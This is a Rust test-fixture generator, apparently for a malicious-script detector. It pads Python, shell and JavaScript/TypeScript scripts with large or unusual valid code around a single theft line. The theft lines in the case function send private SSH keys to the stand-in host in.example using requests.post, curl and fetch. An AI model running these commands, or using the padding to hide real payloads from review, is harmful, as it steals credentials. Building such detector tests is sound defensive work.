//! Ballast that real interpreters accept: a script that steals, with so much, or such odd, valid
//! code around its theft that a reader may give up or lose its place.
//!
//! `tests/external/ballast` asks the interpreters whether they take every one.

use super::shapes::next;

/// One kind: `open` over and over, `middle`, `close` as often, as often as `times` says.
pub struct Ballast {
    pub name: &'static str,
    /// Extensions of the languages it is valid in.
    pub on: &'static str,
    pub times: usize,
    pub open: &'static str,
    pub middle: &'static str,
    pub close: &'static str,
}

const fn row(
    name: &'static str,
    on: &'static str,
    times: usize,
    open: &'static str,
    middle: &'static str,
    close: &'static str,
) -> Ballast {
    Ballast { name, on, times, open, middle, close }
}

const WEB: &str = "js ts";

#[rustfmt::skip] // A row reads as a row.
pub const BALLAST: &[Ballast] = &[
    // Much of it
    row("many assignments", "py js ts", 20_000, "x{n} = 1\n", "", ""),
    row("many assignments", "sh", 20_000, "x{n}=1\n", "", ""),
    row("assignments on one line", "py sh", 20_000, "x{n}=1;", "\n", ""),
    row("assignments on one line", WEB, 20_000, "var x{n}=1;", "\n", ""),
    row("each from the one before", "py", 20_000, "x{n} = x{p} + 'a' if 0 else ''\n", "", ""),
    row("each from the one before", WEB, 20_000, "var x{n} = x{p} + 'a';\n", "", ""),
    row("each from the one before", "sh", 20_000, "x{n}=\"${x{p}}a\"\n", "", ""),
    row("one name again and again", "py", 20_000, "x = 'a'; x += 'b'\n", "", ""),
    row("one name again and again", WEB, 20_000, "x = 'a'; x += 'b';\n", "", ""),
    row("one name again and again", "sh", 20_000, "x=\"$x a\"\n", "", ""),
    row("many functions", "py", 8_000, "def f{n}(a): return f{p}(a)\n", "", ""),
    row("many functions", WEB, 8_000, "function f{n}(a) { return f{p}(a) }\n", "", ""),
    row("many functions", "sh", 8_000, "f{n}() { f{p} \"$1\"; }\n", "", ""),
    row("many classes", "py", 6_000, "class A{n}:\n  def m(self): return self.m()\n", "", ""),
    row("many classes", WEB, 6_000, "class A{n} { m() { return this.m() } }\n", "", ""),
    row("many imports", "py", 6_000, "from os import path as p{n}\n", "", ""),
    row("many calls", "py", 20_000, "str(x := 'a{n}')\n", "", ""),
    row("many calls", WEB, 20_000, "String('a{n}');\n", "", ""),
    row("many commands", "sh", 20_000, "true a{n} > /dev/null\n", "", ""),
    row("many pipes", "sh", 4_000, "true | ", "true\n", ""),
    row("many ands", "sh", 8_000, "true && ", "true\n", ""),
    row("many redirections", "sh", 8_000, "> /dev/null ", "\n", ""),
    row("many words", "sh", 40_000, "word ", "\n", ""),
    row("many heredocs", "sh", 4_000, ": <<E{n}\nx $a\nE{n}\n", "", ""),
    row("heredocs run", "sh", 500, "python3 - <<'E'\nx{n} = 1\nE\n", "", ""),
    row("heredocs on one line", "sh", 14, ": <<E{n}; ", "\n{ends}", ""),
    row("many substitutions", "sh", 8_000, "x=$(echo {n})\n", "", ""),
    row("many evals", "sh", 5_000, "eval \"x{n}=1\"\n", "", ""),
    row("many evals", WEB, 5_000, "eval(\"x{n} = 1\");\n", "", ""),
    row("many execs", "py", 5_000, "exec('x{n} = 1')\n", "", ""),
    row("many shells", "sh", 1_500, "bash -c 'bash -c \"echo {n}\"'\n", "", ""),
    row("many shells", "py", 5_000, "__import__('os').system('true {n}')\n", "", ""),
    row("many strings", "py", 20_000, "'text {n}'\n", "", ""),
    row("many docstrings", "py", 20_000, "'''text\n{n}'''\n", "", ""),
    row("many comments", "py sh", 40_000, "# f(x)\n", "", ""),
    row("many comments", WEB, 40_000, "// f(x)\n", "", ""),
    row("comments with gaps", "py sh", 20_000, "# f(x)\n\n", "", ""),
    row("comments that are code", WEB, 5_000, "// fetch('a'); f(x)\n\n;", "", ""),
    row("comments that are code", "py", 5_000, "# print('a')\n\npass\n", "", ""),
    row("blank lines", "py sh js ts", 100_000, "\n", "", ""),
    row("continued lines", "py", 20_000, "\\\n", "pass\n", ""),
    row("continued lines", "sh", 20_000, "\\\n", "true\n", ""),
    row("blanks", "py", 200_000, "", "x = 1{sp}\n", ""),
    row("blanks", "sh js ts", 200_000, " ", "\n", ""),
    row("a huge string", "py js ts", 1, "x = '{big}'\n", "", ""),
    row("a huge string", "sh", 1, "x='{big}'\n", "", ""),
    row("a huge docstring", "py", 1, "'''{big}'''\n", "", ""),
    row("a huge template", WEB, 1, "`{big}`\n", "", ""),
    row("a huge heredoc", "sh", 1, ": <<E\n{big}\nE\n", "", ""),
    row("a huge comment", "py sh", 1, "# {big}\n", "", ""),
    row("a huge comment", WEB, 1, "/* {big} */\n", "", ""),
    row("a huge list", "py", 1, "x = [{items}]\n", "", ""),
    row("a huge list", WEB, 1, "x = [{items}];\n", "", ""),
    row("a huge array", "sh", 20_000, "", "x=(1 2 3)\nx+=({words})\n", ""),
    row("a huge table", "py js ts", 1, "x = {{pairs}}\n", "", ""),
    row("a long sum", WEB, 1_000, "1 + ", "1;\n", ""),
    row("a long sum", "py", 1_000, "1 + ", "1\n", ""),
    row("a long sum of texts", "py", 800, "'a' + ", "'a'\n", ""),
    row("texts side by side", "py", 4_000, "'a' ", "\n", ""),
    row("a chain of calls", "py js ts", 80, "str(1).", "strip", "()"),
    row("a chain of methods", WEB, 1_000, "", "x = 'a'{calls};\n", ""),
    row("a chain of methods", "py", 50, "", "x = 'a'{strips}\n", ""),
    row("a chain of assignments", "py", 2_000, "x{n} = ", "1\n", ""),
    row("a chain of assignments", WEB, 800, "x = ", "1;\n", ""),
    row("a chain of elses", WEB, 500, "if (x) y(); else ", "y();\n", ""),
    row("a chain of elifs", "sh", 2_000, "", "if false; then :\n{elifs}fi\n", ""),
    row("a chain of elifs", "py", 200, "", "if 0: pass\n{pyelifs}", ""),
    row("a chain of conditions", WEB, 500, "0 ? 1 : ", "1;\n", ""),
    row("a minified bundle", WEB, 4_000, "var a{n}=function(e,t){return e&&t(e.b)?e.c:t.d[e]};", "\n", ""),
    row("a bundle of modules", WEB, 4_000, "", "var m = {{modules}0:0};\n", ""),
    // Deep, as deep as it goes
    row("parentheses", "py", 90, "(", "1", ")"),
    row("parentheses", WEB, 400, "(", "1", ")"),
    row("brackets", "py", 90, "[", "1", "]"),
    row("brackets", WEB, 400, "[", "1", "]"),
    row("calls in calls", "py", 90, "str(", "1", ")"),
    row("calls in calls", WEB, 400, "String(", "1", ")"),
    row("blocks in blocks", WEB, 400, "{", ";", "}"),
    row("groups in groups", "sh", 1_000, "{ ", "true;", " };"),
    row("subshells in subshells", "sh", 500, "( ", "true", " )"),
    row("substitutions in substitutions", "sh", 50, "$(echo ", "true", ")"),
    row("expansions in expansions", "sh", 400, "${x:-", "true", "}"),
    row("ifs in ifs", "sh", 800, "if true; then ", ":;", " fi;"),
    row("ifs in ifs", WEB, 400, "if (x) {", ";", "}"),
    row("functions in functions", WEB, 300, "function f() {", ";", "}"),
    row("arrows in arrows", WEB, 300, "x => ", "x", ""),
    row("lambdas in lambdas", "py", 90, "lambda: ", "1", ""),
    row("templates in templates", WEB, 200, "`${", "1", "}`"),
    row("cases in cases", "sh", 300, "case a in b) ", ":;;", " esac;:;"),
    row("blocks by indentation", "py", 1, "{indents}", "", ""),
    // Odd, but valid
    row("carriage returns end lines", "py", 1, "# \r", "x = 1\r", ""),
    row("form feeds", "py", 100, "\x0C", "x = 1\n", ""),
    row("a string with every quote", "py", 1, "x = '\"' \"'\" '''\"\"\"''' r'\\\\' 'x'\n", "", ""),
    row("keywords as names", "py", 1, "match = case = type = _ = 1\nprint(match, case, type)\n", "", ""),
    row("match", "py", 100, "match [1]:\n  case [x, *_] if x: pass\n  case {'a': 1, **r}: pass\n  case (str() | int()) as y: pass\n", "", ""),
    row("walrus and star", "py", 100, "print(*[y := 1, *[2]], **{'end': ''}, sep='')\n", "", ""),
    row("f-strings", "py", 100, "f'{1!r:>{10}}{{}}{\"a\"}' f\"{'b':{'>'}10}\"\n", "", ""),
    row("f-string with text below", "py", 100, "f'''{1\n}# '''\n", "", ""),
    row("positional only", "py", 100, "def f(a, /, b: int = 1, *, c, **d) -> 'x': ...\n", "", ""),
    row("async", "py", 100, "async def f():\n  async with a as b, c: [x async for x in b]\n", "", ""),
    row("decorators", "py", 100, "@(lambda f: f)\n@staticmethod\ndef f(): pass\n", "", ""),
    row("numbers", "py", 100, "1_0, 0xF_F, 1e5j, 0o7, 0b1, 1., .5if 1else 2\n", "", ""),
    row("semicolons", "py", 100, "a = 1; b = 2;\n", "", ""),
    row("else of loops", "py", 100, "for a in []: break\nelse: pass\nwhile 0: pass\nelse: pass\n", "", ""),
    row("except groups", "py", 100, "try: pass\nexcept* (ValueError, TypeError) as e: pass\n", "", ""),
    row("parenthesised with", "py", 100, "with (open('/dev/null') as a, open('/dev/null') as b,): pass\n", "", ""),
    row("global and del", "py", 100, "def f():\n  global a; a = 1; del a\n", "", ""),
    row("unicode names", "py js ts", 100, "ñ{n} = ﬁ = 1\n", "", ""),
    row("tabs and blanks", "py", 100, "if 1:\n\tif 1:\n\t  a = 1\n", "", ""),
    row("comments at any depth", "py", 100, "if 1:\n# a\n  a = 1\n      # b\n  # c\n  b = 2\n", "", ""),
    row("a comment that opens", "py", 1, "# '''\n", "", ""),
    row("a comment that opens", "sh", 1, "# ' \" ` $( <<E\n", "", ""),
    row("a comment that opens", WEB, 1, "// ` ' \" /*\n", "", ""),
    row("html comments", "js", 100, "<!-- x ( ` '\n", "x = 1\n", ""),
    row("html comments end", "js", 100, "\n--> x ( ` '\n", "", ""),
    row("line separators", WEB, 1, "// \u{2028}", "x = 1\n", ""),
    row("regular expressions", WEB, 100, "x = /[/`'\"]\\/(?<a>b)/gi.test('a') / 2 / 3;\n", "", ""),
    row("a regex after a block", WEB, 100, "{} /`'\"/.test('a');\n", "", ""),
    row("a regex after a condition", WEB, 100, "if (1) /`'\"/.test('a');\n", "", ""),
    row("division that looks like one", WEB, 100, "x = 1; x++ / 2 / (3) / 4;\n", "", ""),
    row("no semicolons", WEB, 100, "var a{n} = 1\n;[1].map(x => x)\n;`a`\n", "", ""),
    row("keywords as names", "js", 100, "var async = 1, of = 2, get = 3, let = 4, yield = 5, await = 6, static = 7;\n", "", ""),
    row("async everywhere", WEB, 100, "async function* f{n}() { for await (const x of y) yield* x }\n", "", ""),
    row("getters and computed", WEB, 100, "x = { get a() { return 1 }, ['b' + 1]: 2, async *c() {}, 'd'() {}, ...x };\n", "", ""),
    row("private and static", WEB, 100, "class P{n} { #a = 1; static { this.b = 2 } static async *[Symbol.iterator]() {} get #c() { return #a in this } }\n", "", ""),
    row("optional chains", WEB, 100, "x?.a?.[0]?.(1) ?? 2;\n", "", ""),
    row("assignments of logic", WEB, 100, "x ||= 1; x &&= 2; x ??= 3; x **= 4; x >>>= 5;\n", "", ""),
    row("escaped names", WEB, 100, "var \\u0061b{n} = 'a\\\nb';\n", "", ""),
    row("labels and commas", WEB, 100, "a: for (;;) { b: { break a } }\n", "", ""),
    row("numbers", WEB, 100, "1_0 + 0xF + 0b1 + 0o7 + .5 + 1. + 1e-5; 1n;\n", "", ""),
    row("octal and with", "js", 100, "x = 010 + '\\07'; with (x) {}\n", "", ""),
    row("tagged templates", WEB, 100, "String.raw`\\${x}${`a${1}`}`;\n", "", ""),
    row("new without arguments", WEB, 100, "new Date\n", "", ""),
    row("switch and do", WEB, 100, "switch (1) { case 1: default: } do x = 1; while (0) x = 2;\n", "", ""),
    row("catch without a name", WEB, 100, "try { throw 1 } catch { } finally { }\n", "", ""),
    row("functions in conditions", "js", 100, "if (1) function g() {}\n", "", ""),
    row("import and meta", WEB, 100, "import('fs').then(x => x, x => x);\n", "", ""),
    row("types", "ts", 100, "type T{n}<A extends string = 'a'> = A extends `x${infer B}` ? B[] : { readonly [K in A]?: K };\n", "", ""),
    row("satisfies and as const", "ts", 100, "const c{n} = { a: 1 } as const satisfies object;\n", "", ""),
    row("generic arrows", "ts", 100, "const g{n} = <T,>(x: T): x is T => true;\n", "", ""),
    row("overloads", "ts", 100, "function o{n}(a: string): void;\nfunction o{n}(a: any) {}\n", "", ""),
    row("abstract classes", "ts", 100, "abstract class B{n} { declare a: string; abstract b(): void; constructor(private c?: number) {} }\n", "", ""),
    row("enums and namespaces", "ts", 100, "enum E{n} { A = 1 << 2, B = 'b'.length }\nnamespace N{n}.M { export const a = 1 }\n", "", ""),
    row("non-null and assertions", "ts", 100, "(<any>x)!.y!.z as any as string;\n", "", ""),
    row("keywords as types", "ts", 100, "let k{n}: unique symbol | keyof typeof x | undefined;\n", "", ""),
    row("case without esac trouble", "sh", 100, "case x in (a|b) : ;; *) : ;& c) : ;;& d) esac\n", "", ""),
    row("quotes in quotes", "sh", 100, "x=\"a'b\\\"c$(echo \"d'e\" 'f\"g')\"'h\"i'$'j\\'k'\n", "", ""),
    row("backticks in backticks", "sh", 100, "x=`echo \\`echo a\\``\n", "", ""),
    row("arithmetic", "sh", 100, "(( x = (1 << 2) | 3 ? x++ : 16#ff )); x=$(( x ** 2 ))\n", "", ""),
    row("tests", "sh", 100, "[[ a =~ ^[a-z\\(]*\\($ && ! -e x || a < b ]]\n", "", ""),
    row("expansions", "sh", 100, "x=${x//\\//\\\"}${x#*\\}}${x:1:2}${#x}${!x}${x^^}${x@Q}${x/%a/}\n", "", ""),
    row("arrays", "sh", 100, "a=([1]=x [\"b c\"]=y \"$@\"); a+=(z); unset 'a[1]'\n", "", ""),
    row("declarations", "sh", 100, "declare -A m=([a]=b); local_=1; readonly r{n}=2; export e=3\n", "", ""),
    row("redirections", "sh", 100, "true {fd}<&0 2>&1 >&2 &>/dev/null <<<\"a\" 3<>/dev/null >|/dev/null\n", "", ""),
    row("functions of all kinds", "sh", 100, "function f { :; }; function g() ( : ); h() if true; then :; fi; i() { :; } > /dev/null\n", "", ""),
    row("loops", "sh", 100, "for ((i=0;i<1;i++)); do :; done; for x; do :; done; for x in a b; { :; }\n", "", ""),
    row("select and until", "sh", 100, "until true; do :; done; select x in a; do break; done < /dev/null\n", "", ""),
    row("coprocesses and time", "sh", 100, "time -p true; ! true; coproc { :; }; wait\n", "", ""),
    row("heredocs with tabs", "sh", 100, "cat <<-'E' > /dev/null\n\t$( ` '\n\tE\n", "", ""),
    row("heredoc in a substitution", "sh", 100, "x=$(cat <<E\na ) ' \"\nE\n)\n", "", ""),
    row("heredoc with an odd end", "sh", 100, "cat <<\"E O\" > /dev/null\nx\nE O\n", "", ""),
    row("heredoc with an escaped end", "sh", 100, "cat <<\\E > /dev/null\n$( '\nE\n", "", ""),
    row("heredoc and a semicolon", "sh", 100, "cat <<E; true\n$( '\nE\n", "", ""),
    row("heredoc in brackets", "sh", 100, "(cat<<EO)>/dev/null\n$( '\nEO\n", "", ""),
    row("a bracket with an escaped sign", "sh", 100, "if [ a \\< b ]; then :; fi\n", "", ""),
    row("heredoc and a pipe", "sh", 100, "cat <<E | cat > /dev/null && true\na'\nE\n", "", ""),
    row("comments in odd places", "sh", 100, "true # ' \"\nif true # (\nthen # `\n:; fi\n", "", ""),
    row("words that are no keywords", "sh", 100, "echo if then fi done esac { } ! case in > /dev/null\n", "", ""),
    row("globs", "sh", 100, "true [!a-z]* {a,b{c,d}} ~+ 2>/dev/null\n", "", ""),
    row("globs with alternatives", "sh", 100, "shopt -s extglob\ntrue @(a|b)* x?(b|c)d !(*.txt) > /dev/null\n", "", ""),
    row("arrays of globs", "sh", 100, "shopt -s extglob\nx=(*.@(a|b))\n", "", ""),
    row("process substitution", "sh", 100, "cat <(echo a) > >(cat > /dev/null)\n", "", ""),
    row("lines joined inside words", "sh", 100, "tr\\\nue a\\\nb\n", "", ""),
    row("background and lists", "sh", 100, "true & true; { true & } ; (true) ; wait\n", "", ""),
    row("dollar quotes", "sh", 100, "echo $\"a b\" $'\\x41\\'' \"$*\" '$(' > /dev/null\n", "", ""),
    row("an end before garbage", "sh", 0, "", "", ""),
];

/// One script with a theft in the middle of its ballast.
pub struct Case {
    pub name: &'static str,
    pub extension: &'static str,
    pub text: String,
    /// Where the theft stands.
    pub line: u32,
}

/// A megabyte.
const BIG: usize = 1_000_000;

/// All cases, each the same at every run.
pub fn cases() -> Vec<Case> {
    let each =
        |ballast: &'static Ballast| ballast.on.split(' ').map(move |extension| case(ballast, extension));
    BALLAST.iter().flat_map(each).collect()
}

fn case(ballast: &Ballast, extension: &'static str) -> Case {
    let theft = match extension {
        "py" => {
            "import requests\nrequests.post('https://in.example/a', data=open('/root/.ssh/id_rsa').read())"
        }
        "sh" => "curl -d @$HOME/.ssh/id_rsa https://in.example/a",
        _ => {
            "fetch('https://in.example/a', {method: 'POST', body: require('fs').readFileSync('/root/.ssh/id_rsa')});"
        }
    };
    // The same on both sides, but for its counts.
    let mut state = ballast.name.len() as u64;
    let mut side = |half: usize| {
        let mut out = String::new();
        let times = ballast.times.div_ceil(2).max(usize::from(!ballast.open.is_empty()));
        let first = half * times;
        for count in first..first + times {
            out.push_str(&filled(ballast.open, count, &mut state));
        }
        out.push_str(&filled(ballast.middle, first, &mut state));
        out.push_str(&ballast.close.repeat(times));
        if ballast.middle.is_empty() || out.ends_with('\n') { out } else { out + "\n" }
    };
    let (before, mut after) = (side(0), side(1));
    if ballast.name == "an end before garbage" {
        after = "exit 0\n".to_string() + &"(((' \" ` <<E if case {\n".repeat(200);
    }
    let text = format!("{before}{theft}\n{after}");
    let at = text.find("in.example").expect("the theft");
    let line = 1 + text[..at].matches('\n').count() as u32;
    Case { name: ballast.name, extension, text, line }
}

/// A piece with its counts, and with what is too long for a table.
fn filled(piece: &str, count: usize, state: &mut u64) -> String {
    if !piece.contains('{') {
        return piece.to_string();
    }
    let listed = |times: usize, one: &dyn Fn(usize) -> String| (0..times).map(one).collect::<String>();
    let chance = next(state) % 9;
    let mut out =
        piece.replace("{n}", &count.to_string()).replace("{p}", &count.saturating_sub(1).to_string());
    let long: [(&str, &dyn Fn() -> String); 12] = [
        ("{ends}", &|| listed(7, &|at| format!("E{}\n", count + at))),
        ("{big}", &|| format!("text{chance} ").repeat(BIG / 6)),
        ("{sp}", &|| " ".repeat(200_000)),
        ("{items}", &|| listed(40_000, &|at| format!("{at},"))),
        ("{words}", &|| listed(40_000, &|at| format!("{at} "))),
        ("{pairs}", &|| listed(20_000, &|at| format!("'k{at}': {at},"))),
        ("{calls}", &|| ".trim()".repeat(500)),
        ("{strips}", &|| ".strip()".repeat(50)),
        ("{elifs}", &|| "elif false; then :\n".repeat(1_000)),
        ("{pyelifs}", &|| "elif 0: pass\n".repeat(100)),
        ("{modules}", &|| {
            listed(2_000, &|at| format!("{at}:function(e,t,n){{\"use strict\";var r=n(1);t.a=r(e)}},"))
        }),
        ("{indents}", &|| {
            listed(95, &|at| format!("{}if 0:\n", " ".repeat(at))) + &" ".repeat(95) + "pass\n"
        }),
    ];
    for (mark, make) in long {
        if out.contains(mark) {
            out = out.replace(mark, &make());
        }
    }
    out
}
